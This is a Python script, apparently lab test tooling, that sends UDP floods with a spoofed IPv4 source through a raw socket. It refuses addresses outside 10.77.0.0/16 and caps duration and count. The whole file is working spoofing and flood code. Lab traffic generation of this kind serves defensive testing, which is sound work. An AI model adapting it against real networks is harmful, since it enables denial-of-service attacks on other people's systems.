#!/usr/bin/env python3
"""
Attack traffic for the lab, run only inside a lab namespace (test/attacks/): UDP datagrams with
a spoofed IPv4 source, sent through a raw socket, bounded in count and in time, to a 10.77.0.0/16
address only. Prints one JSON line: how many were sent and for how long.

  flood.py --src A --dst B --port P --seconds S [--rate R] [--max N] (--random LEN | --hex PAYLOAD...)

--rate 0 sends as fast as one core allows; otherwise that many per second. With several --hex
payloads they are sent in turn at their rate (a replay of a capture, in order).
"""
import argparse, json, os, random, socket, struct, sys, time

def main():
    p = argparse.ArgumentParser()
    p.add_argument('--src', required=True)
    p.add_argument('--dst', required=True)
    p.add_argument('--port', type=int, required=True)
    p.add_argument('--seconds', type=float, required=True)
    p.add_argument('--rate', type=float, default=0)
    p.add_argument('--max', type=int, default=5_000_000)
    p.add_argument('--random', type=int, default=0)
    p.add_argument('--hex', nargs='*', default=[])
    a = p.parse_args()
    for addr in (a.src, a.dst):
        if not addr.startswith('10.77.'):
            sys.exit(f'refusing {addr}: lab addresses (10.77.0.0/16) only')
    if a.seconds > 120 or a.max > 50_000_000:
        sys.exit('refusing: at most 120 s and 50M datagrams')
    payloads = [bytes.fromhex(h) for h in a.hex] or [os.urandom(a.random or 100) for _ in range(64)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    src, dst = socket.inet_aton(a.src), socket.inet_aton(a.dst)
    packets = []
    for i, pl in enumerate(payloads):
        udp = struct.pack('!HHHH', 40000 + i % 1000, a.port, 8 + len(pl), 0) + pl
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), i & 0xffff, 0, 64, socket.IPPROTO_UDP, 0, src, dst)
        packets.append(ip + udp)
    dest = (a.dst, 0)
    sent = 0
    start = time.monotonic()
    end = start + a.seconds
    n = len(packets)
    if a.rate > 0:
        gap = 1.0 / a.rate
        nxt = start
        while sent < a.max:
            now = time.monotonic()
            if now >= end:
                break
            if now < nxt:
                time.sleep(min(nxt - now, 0.01))
                continue
            try:
                s.sendto(packets[sent % n], dest)
            except OSError:
                pass
            sent += 1
            nxt += gap
    else:
        send = s.sendto
        while sent < a.max:
            for _ in range(256):
                try:
                    send(packets[sent % n], dest)
                except OSError:
                    pass
                sent += 1
            if time.monotonic() >= end:
                break
    took = time.monotonic() - start
    print(json.dumps({'sent': sent, 'seconds': round(took, 3), 'rate': round(sent / took) if took > 0 else 0}))

main()
